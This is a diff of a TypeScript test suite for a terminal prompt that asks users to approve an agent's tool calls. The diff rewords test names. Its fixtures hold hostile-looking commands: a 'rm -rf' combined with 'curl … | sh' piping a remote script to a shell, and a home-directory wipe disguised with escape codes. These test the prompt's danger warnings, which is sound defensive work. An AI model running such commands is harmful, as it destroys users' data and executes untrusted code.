@@ -111,7 +111,7 @@ const credential: InputRequest = {
 };
 
 describe('paintQuestion', () => {
-  it('says what would run, what was found, who asks and what can be done, in 80 columns', () => {
+  it('shows the call, the findings, the reason and the answers in 80 columns', () => {
     expect(paint({ request: shell, view: view(80), count: 3 })).toEqual([
       '? Run run_shell_command? · 1 of 3 · 1 min 30 s left to answer',
       '$ sudo rm -rf dist > log.txt; curl -s https://example.com/i.sh | sh',
@@ -141,7 +141,7 @@ describe('paintQuestion', () => {
     grant: { text: 'fetching docs.example.org', rule: '', project: '/home/ada/proj' },
   };
 
-  it('says what is covered and where, for each of the choices that last', () => {
+  it('shows the scope and place of each lasting grant', () => {
     expect(paint({ request: plain, view: view(80) }).slice(4)).toEqual([
       'Covers: fetching docs.example.org',
       's: this session · pp: in ~/proj, saved · aa: in all trusted folders, saved',
@@ -157,14 +157,14 @@ describe('paintQuestion', () => {
     ]);
   });
 
-  it('offers only this session in a folder that is not trusted', () => {
+  it('offers only a grant for this session in an untrusted folder', () => {
     const request: InputRequest = { ...web, grant: { text: 'fetching docs.example.org', rule: '' } };
     const shown = paint({ request, view: view(80) }).join('\n');
     expect(shown).toContain('Covers: fetching docs.example.org\ns: this session\n');
     expect(shown).not.toMatch(/\bpp\b|\baa\b/);
   });
 
-  it('asks for the second press with what it would allow, in place of the choices', () => {
+  it('replaces the choices with what a second press would allow', () => {
     const state = { doubling: { action: 'project', letter: 'p', at: 0 } } as const;
     expect(paint({ request: plain, view: view(80), state }).slice(7)).toEqual([
       '❯ p again: Allow in this project (fetching docs.example.org), in ~/proj, saved',
@@ -177,17 +177,17 @@ describe('paintQuestion', () => {
   it.each([
     [true, 'Tab: answer · Enter: Allow once · Esc: decide later'],
     [false, 'Tab: answer · Esc: decide later'],
-  ])('says how to get to it while the draft has the focus (empty: %s)', (isDraftEmpty, row) => {
+  ])('shows how to reach it while the draft has the focus (empty: %s)', (isDraftEmpty, row) => {
     expect(paint({ request: plain, view: view(80), hasFocus: false, isDraftEmpty }).at(-1)).toBe(row);
   });
 
-  it.each(['work', 'open'] as const)('says where it runs, however little room there is: %s', (profile) => {
+  it.each(['work', 'open'] as const)('shows where the call runs even in very little room: %s', (profile) => {
     const lines = paint({ request: { ...shell, profile, hosts: ['a.example'] }, view: view(80), rows: 10 }).join('\n');
     expect(lines).toContain(profile === 'open' ? 'Runs outside the sandbox' : 'reach a.example only');
     expect(lines).toContain('Danger');
   });
 
-  it('becomes brief where there is little room, and scrolls', () => {
+  it('becomes brief and scrolls in little room', () => {
     expect(paint({ request: shell, view: view(40), rows: 14, state: { scroll: 1 } })).toEqual([
       '? Run run_shell_command? · 1 min 30 s',
       '  left to answer',
@@ -217,7 +217,7 @@ describe('paintQuestion', () => {
     ]);
   });
 
-  it('shows what is dangerous and every answer in any window from 40 by 10', () => {
+  it('shows a danger and every answer in any window from 40 by 10', () => {
     const finding = fc.record({
       check: fc.constant('a'),
       severity: fc.constantFrom('danger' as const, 'warning' as const, 'info' as const),
@@ -255,7 +255,7 @@ describe('paintQuestion', () => {
     );
   });
 
-  it('speaks in words to a screen reader', () => {
+  it('uses words for a screen reader', () => {
     const lines = paint({ request: shell, view: view(120, { isScreenReader: true, theme: colourful }) }).map((line) =>
       stripVTControlCharacters(line),
     );
@@ -265,20 +265,20 @@ describe('paintQuestion', () => {
     expect(lines.join('\n')).not.toMatch(/[❯✖▲•┄│]/);
   });
 
-  it('marks by colour where there are colours', () => {
+  it('marks with colors if there are any', () => {
     const [, marked = ''] = paint({ request: shell, view: view(120, { theme: colourful }) });
     expect(marked).toContain(colourful.bad(colourful.strong('sudo')));
     expect(marked).toContain(colourful.accent(colourful.strong('example.com')));
     expect(stripVTControlCharacters(marked)).toBe(`$ ${command}`);
   });
 
-  it('hides nothing of a command that would draw over itself', () => {
+  it('hides nothing of a command that would overwrite itself', () => {
     const hidden = 'rm -rf ~\r\u001B[2Kls';
     const request: InputRequest = { ...shell, display: { type: 'command', command: hidden } };
     expect(paint({ request, view: view(80) })[1]).toBe('$ rm -rf ~␍␛[2Kls');
   });
 
-  it('shows a change, all of it within reach', () => {
+  it('shows a change that can be scrolled completely', () => {
     const first = paint({ request: diff, view: view(80), rows: 24 });
     expect(first[1]).toBe('a.txt +60 -60');
     expect(first.join('\n')).toContain('┄ rows 1–');
@@ -291,7 +291,7 @@ describe('paintQuestion', () => {
     expect(last.join('\n')).toContain('new 59');
   });
 
-  it('shows with whom a call talks', () => {
+  it('shows the hosts that a call contacts', () => {
     expect(paint({ request: web, view: view(80) }).slice(1, 4)).toEqual([
       'url: https://docs.example.org/a',
       'prompt: and http://two.example:81/x',
@@ -300,7 +300,7 @@ describe('paintQuestion', () => {
     expect(paint({ request: web, view: view(80) }).join('\n')).not.toContain('session');
   });
 
-  it('shows options, ticked and marked', () => {
+  it('shows options with check marks and the marked one', () => {
     expect(paint({ request: choice, view: view(80), state: { chosen: 1, ticked: ['1'] } })).toEqual([
       '? Which one?',
       '  1 [x] SQLite',
@@ -310,7 +310,7 @@ describe('paintQuestion', () => {
     ]);
   });
 
-  it('keeps the marked option in sight', () => {
+  it('keeps the marked option visible', () => {
     const options = Array.from({ length: 30 }, (_, n) => ({ id: String(n), label: `option ${n}` }));
     const lines = paint({ request: { ...choice, options }, view: view(40), rows: 8, state: { chosen: 20 } });
     expect(lines.join('\n')).toContain('❯ 21 [ ] option 20');
@@ -328,7 +328,7 @@ describe('paintQuestion', () => {
     expect(lines.join('')).not.toContain('geheim');
   });
 
-  it('says why an answer was not taken, and that time is over', () => {
+  it('shows why an answer was rejected, and that the time is over', () => {
     const lines = paint({
       request: { ...shell, expiresAt: '2025-01-01T00:00:00Z' },
       view: view(80),
@@ -338,7 +338,7 @@ describe('paintQuestion', () => {
     expect(lines).toContain('too late');
   });
 
-  it('stays within its room, whatever is asked', () => {
+  it('stays within its rows and columns for any question', () => {
     const text: InputRequest = { kind: 'text', inputId: 't', title: 'Why? '.repeat(5), placeholder: 'because 漢字 👍' };
     const request = fc.constantFrom(shell, diff, web, choice, credential, text);
     const state = fc.record({ isWhole: fc.boolean(), isWriting: fc.boolean(), scroll: fc.nat(200), chosen: fc.nat(1) });
@@ -363,7 +363,7 @@ describe('paintWaiting', () => {
     [[shell], 60, '? Run run_shell_command? · Tab: answer'],
     [[shell, diff], 60, '? Run run_shell_command? (and 1 more) · Tab: answer'],
     [[shell, diff], 30, '? Run run_shell… · Tab: answer'],
-  ])('is one row', (requests, width, row) => {
+  ])('shows pending questions on one row', (requests, width, row) => {
     expect(paintWaiting(requests, view(width))).toBe(row);
   });
 });
